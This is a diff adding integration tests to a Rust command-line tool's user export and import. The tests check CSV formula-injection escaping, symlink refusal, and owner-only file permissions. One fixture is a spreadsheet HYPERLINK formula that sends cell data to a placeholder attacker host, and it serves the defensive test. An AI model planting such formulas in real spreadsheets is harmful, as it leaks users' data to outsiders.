@@ -204,6 +204,41 @@ async fn each_rejected_row_is_told_with_line_field_fault_and_mend_and_can_be_imp
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn a_spreadsheet_gets_no_formula_and_an_import_gets_the_names_back() {
+    let (from, to) = tokio::join!(System::prepare(), System::prepare());
+    let (from_api, _from_worker, api, _worker) = tokio::join!(from.api(), from.worker(), to.api(), to.worker());
+    let names = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1", "-1+1", "@SUM(A1)", "'quoted", "Ada", "O'Hara"];
+    for (number, name) in names.into_iter().enumerate() {
+        let user = NewUser { email: format!("=1+{number}@example.org"), name: name.to_owned() };
+        from_api.client().create_user().prefer("wait=20").body(user).send().await.unwrap();
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
+    let (plain, sheet) = (file("plain.csv"), file("sheet.csv"));
+    export(&from, &plain).await;
+    assert!(fs::read_to_string(&plain).unwrap().contains("\n=1+0@example.org,"), "lossless unless asked");
+    succeeded(&rollcall(&from, &["export", &sheet, "--spreadsheet"]).output().await.unwrap());
+    let mut cells = csv::Reader::from_path(&sheet).unwrap();
+    for record in cells.records() {
+        let record = record.unwrap();
+        let harmful = record.iter().any(|cell| cell.starts_with(['=', '+', '-', '@']));
+        assert!(record.len() == 8 && !harmful, "{record:?}");
+    }
+    succeeded(&import(&to, &api, &sheet, &[]).output().await.unwrap());
+    let second = file("second.csv");
+    export(&to, &second).await;
+    assert_eq!(rows(&second), rows(&plain));
+
+    // So is the report of rejected rows: here each address is taken.
+    let (report, arguments) = (file("rejected.csv"), ["--name", "again", "--spreadsheet", "--rejected"]);
+    failed(&import(&to, &api, &sheet, &[&arguments[..], &[&report]].concat()).output().await.unwrap());
+    let text = fs::read_to_string(&report).unwrap();
+    assert!(text.contains(",'=1+0@example.org,") && !text.contains(",=1"), "{text}");
+    let ndjson = rollcall(&from, &["export", "-", "--format", "ndjson", "--spreadsheet"]).output().await.unwrap();
+    assert!(failed(&ndjson).contains("--spreadsheet is for CSV"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn an_export_can_be_piped_into_an_import() {
     let (from, to) = tokio::join!(System::prepare(), System::prepare());
     let (from_api, _from_worker, api, _worker) = tokio::join!(from.api(), from.worker(), to.api(), to.worker());
@@ -250,10 +285,37 @@ async fn pipes_are_imported_and_folders_are_refused() {
         let arguments = ["--format", "csv", option, file];
         let mut command = import(&system, &api, copy.path().to_str().unwrap(), &arguments);
         let told = failed(&command.output().await.unwrap());
-        assert!(told.contains("no regular file"), "{told}");
+        assert!(told.contains("it is no regular file"), "{told}");
     }
     let told = failed(&rollcall(&system, &["export", "/dev/null", "--format", "csv"]).output().await.unwrap());
-    assert!(told.contains("/dev/null is no regular file"), "{told}");
+    assert!(told.contains("/dev/null is not written: it is no regular file"), "{told}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn links_are_neither_followed_nor_replaced() {
+    let system = System::prepare().await;
+    let folder = tempfile::tempdir().unwrap();
+    let file = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
+    fs::write(file("target.txt"), "precious").unwrap();
+    fs::write(file("users.csv"), "email,name\nada@example.org,Ada\n").unwrap();
+    for name in ["link.csv", "users.csv.journal"] {
+        std::os::unix::fs::symlink(file("target.txt"), file(name)).unwrap();
+    }
+    for arguments in [
+        &["export", &file("link.csv")][..],
+        &["import", &file("users.csv"), "--rejected", &file("link.csv"), "--url", "http://127.0.0.1:1"],
+        &["import", &file("users.csv"), "--url", "http://127.0.0.1:1"],
+    ] {
+        let told = failed(&rollcall(&system, arguments).output().await.unwrap());
+        assert!(told.contains("it is a symbolic link; name a regular file"), "{arguments:?}: {told}");
+    }
+    // A standard output that is a file has a link to it in /dev, which must stay.
+    let output = fs::File::create(file("output.csv")).unwrap();
+    let mut command = rollcall(&system, &["export", "/dev/stdout", "--format", "csv"]);
+    let refused = command.stdout(output).spawn().unwrap().wait_with_output().await.unwrap();
+    assert!(!refused.status.success());
+    assert!(fs::symlink_metadata("/dev/stdout").unwrap().is_symlink());
+    assert_eq!(fs::read_to_string(file("target.txt")).unwrap(), "precious");
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -271,11 +333,18 @@ async fn files_with_personal_data_are_their_owners_only() {
     assert_eq!(mode("rejected.csv"), 0o600);
     export(&system, &file("all.csv")).await;
     assert_eq!(mode("all.csv"), 0o600);
+    // Whatever the umask.
+    let mut open = std::process::Command::new("sh");
+    let line = "umask 0 && exec \"$0\" export \"$1\"";
+    open.args(["-c", line, env!("CARGO_BIN_EXE_rollcall"), &file("open.csv")]).env_clear();
+    open.envs(system.environment.iter().map(|(name, value)| (name, value)));
+    assert!(tokio::task::spawn_blocking(move || open.output().unwrap()).await.unwrap().status.success());
+    assert_eq!(mode("open.csv"), 0o600);
     // The API is away: the journal stays.
     drop(api);
     let journal = file("journal");
     let arguments = ["import", &file("users.csv"), "--journal", &journal, "--url", "http://127.0.0.1:1"];
     failed(&rollcall(&system, &arguments).output().await.unwrap());
     assert_eq!(mode("journal"), 0o600);
-    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 4, "no drafts are left");
+    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), 5, "no drafts are left");
 }
